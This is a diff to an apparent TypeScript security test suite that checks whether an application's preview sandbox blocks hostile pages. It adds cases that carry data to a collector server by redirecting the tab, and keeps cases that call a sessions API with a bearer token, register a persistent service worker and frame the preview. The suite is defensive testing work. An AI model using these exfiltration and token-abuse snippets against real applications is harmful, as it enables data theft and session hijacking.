@@ -6,7 +6,7 @@ import type { AttackCase, Attempt } from "../attack.ts";
 import type { AttackWorld } from "../attack-world.ts";
 import { serve } from "../hostile-page.ts";
 import { ask } from "../http-client.ts";
-import { serveUnderOneOrigin, setPreviewStage, UNGUARDED, type Guards, type PreviewStage } from "../preview-stage.ts";
+import { serveUnderOneOrigin, setPreviewStage, type Guards, type PreviewStage } from "../preview-stage.ts";
 import { startOpen, startWhole } from "./browser-attacks.ts";
 import { openPages } from "./page-attacks.ts";
 
@@ -89,77 +89,105 @@ const CARRY_OUT: [name: string, code: (to: string) => string][] = [
   ],
 ];
 
-const GUARDED: Guards = {};
-
 const carryCase = ([name]: (typeof CARRY_OUT)[number], at: number): AttackCase => {
-  const look = (guards: Guards) => async (world: AttackWorld) => {
-    const asked = await carryOut(world, guards);
+  const look = (way: Way) => async (world: AttackWorld) => {
+    const asked = await carryOut(world, way);
     return { succeeded: asked.includes(`/carried-${at}`), said: asked.join(" ") };
   };
   return {
     ...{ family: "preview", quick: true, name: `carry something out by ${name}` },
-    attack: look(GUARDED),
-    control: look(UNGUARDED),
+    attack: look("own"),
+    control: look("direct"),
   };
 };
 
-const carried = new Map<Guards, Promise<string[]>>();
+/** The application by its preview, or as it is. */
+type Way = "own" | "direct";
+
+const carried = new Map<Way, Promise<string[]>>();
 /** What the collector is asked for by one page that tries all of it. */
-function carryOut(world: AttackWorld, guards: Guards): Promise<string[]> {
-  const tried =
-    carried.get(guards) ??
-    withAsked(guards, async ({ own, collector }) => {
-      const tries = CARRY_OUT.map(([, code], at) => `try { ${code(`${collector}/carried-${at}`)} } catch {}`);
-      const wait = "await new Promise((resolve) => setTimeout(resolve, 1500));";
-      await visit(world, own, `await (async () => { ${tries.join(";")}; ${wait} })()`);
-    });
-  carried.set(guards, tried);
+function carryOut(world: AttackWorld, way: Way): Promise<string[]> {
+  const tried = carried.get(way) ?? tryAll(world, way);
+  carried.set(way, tried);
   return tried;
 }
-async function withAsked(guards: Guards, act: (stage: PreviewStage) => Promise<void>): Promise<string[]> {
-  const stage = await setPreviewStage({ app: PAGE, secret: "of another session", guards });
+
+async function tryAll(world: AttackWorld, way: Way): Promise<string[]> {
+  const stage = await setPreviewStage({ app: PAGE, secret: "of another session" });
   try {
-    await act(stage);
+    const tries = CARRY_OUT.map(([, code], at) => `try { ${code(`${stage.collector}/carried-${at}`)} } catch {}`);
+    const wait = "await new Promise((resolve) => setTimeout(resolve, 1500));";
+    await visit(world, stage[way], `await (async () => { ${tries.join(";")}; ${wait} })()`);
     return stage.asked;
   } finally {
     await stage.close();
   }
 }
 
+/** What no content security policy rules: the tab itself goes elsewhere, and takes along what it knows. */
+const LEAD_AWAY: [name: string, path: string, code: string][] = [
+  ["leading the tab elsewhere", "", "void setTimeout(() => (location.href = decodeURIComponent(TO)))"],
+  ["a redirect of the application's", "away", "0"],
+];
+
+const leadCase = ([name, path, code]: (typeof LEAD_AWAY)[number]): AttackCase => {
+  const lead = (way: Way) => async (world: AttackWorld) => {
+    let to = "";
+    const app: RequestListener = (request, response) =>
+      void (request.url === "/away" ? response.writeHead(302, { location: to }).end() : PAGE(request, response));
+    const stage = await setPreviewStage({ app, secret: "of another session" });
+    const { browser } = await openPages(world);
+    const tab = await browser.newPage();
+    try {
+      to = `${stage.collector}/carried`;
+      await tab.goto(stage[way] + path);
+      await tab.evaluate(code.replace("TO", JSON.stringify(encodeURIComponent(to))));
+      await tab.waitForTimeout(1500);
+      return { succeeded: stage.asked.includes("/carried"), said: `${tab.url()} ${stage.asked.join(" ")}` };
+    } finally {
+      await tab.close();
+      await stage.close();
+    }
+  };
+  return {
+    ...{ family: "preview", quick: true, name: `carry something out by ${name}` },
+    attack: lead("own"),
+    control: lead("direct"),
+  };
+};
+
 const CALL_API: AttackCase = {
   ...{ family: "preview", quick: true, name: "call the API, with its token" },
-  attack: async (world) => callApi(world, await startWhole(world)),
+  attack: async (world) => callApi(world, await startWhole(world), "own"),
   async control(world) {
     const open = await startOpen(["checkOrigin"]);
-    const attempt = await callApi(world, open);
+    const attempt = await callApi(world, open, "direct");
     await open.close();
     return attempt;
   },
 };
 
-/** Without the preview's own policy in either: it is the API that has to refuse. */
-function callApi(world: AttackWorld, { port, token }: { port: number; token: string }): Promise<Attempt> {
-  const headers = `{ headers: { authorization: "Bearer ${token}" } }`;
-  return withStage(UNGUARDED, ({ own }) =>
-    visit(world, own, `(await fetch("http://localhost:${port}/api/sessions", ${headers})).ok`),
-  );
+function callApi(world: AttackWorld, target: { port: number; token: string }, way: Way): Promise<Attempt> {
+  const headers = `{ headers: { authorization: "Bearer ${target.token}" } }`;
+  const code = `(await fetch("http://localhost:${target.port}/api/sessions", ${headers})).ok`;
+  return withStage({}, (stage) => visit(world, stage[way], code));
 }
 
 const WORKER: AttackCase = {
   ...{ family: "preview", quick: true, name: "stay in the browser as a service worker" },
   attack: (world) => withStage({}, ({ own }) => visit(world, own, REGISTER)),
-  control: (world) => withStage(UNGUARDED, ({ own }) => visit(world, own, REGISTER)),
+  control: (world) => withStage({}, ({ direct }) => visit(world, direct, REGISTER)),
 };
 const REGISTER = `(await navigator.serviceWorker.register("/worker.js")) instanceof ServiceWorkerRegistration`;
 
 const FRAMED: AttackCase = {
   ...{ family: "preview", quick: true, name: "be shown in a frame of a foreign page" },
-  attack: (world) => withStage({}, (stage) => frame(world, stage)),
-  control: (world) => withStage(UNGUARDED, (stage) => frame(world, stage)),
+  attack: (world) => withStage({}, ({ own }) => frame(world, own)),
+  control: (world) => withStage({}, ({ direct }) => frame(world, direct)),
 };
 
 /** A frame that was refused shows the browser's own page, which has another origin than any. */
-async function frame(world: AttackWorld, { own }: PreviewStage): Promise<Attempt> {
+async function frame(world: AttackWorld, own: string): Promise<Attempt> {
   const { browser } = await openPages(world);
   const foreign = await serve((_request, response) => {
     response.setHeader("content-type", "text/html").end(`<!doctype html><iframe src="${own}"></iframe>`);
@@ -239,6 +267,7 @@ async function takeTunnel(by: ReturnType<typeof newId<"session">> | undefined): 
 export const PREVIEW_ATTACKS: AttackCase[] = [
   ...READ_OTHER.map(readCase),
   ...CARRY_OUT.map(carryCase),
+  ...LEAD_AWAY.map(leadCase),
   CALL_API,
   WORKER,
   FRAMED,
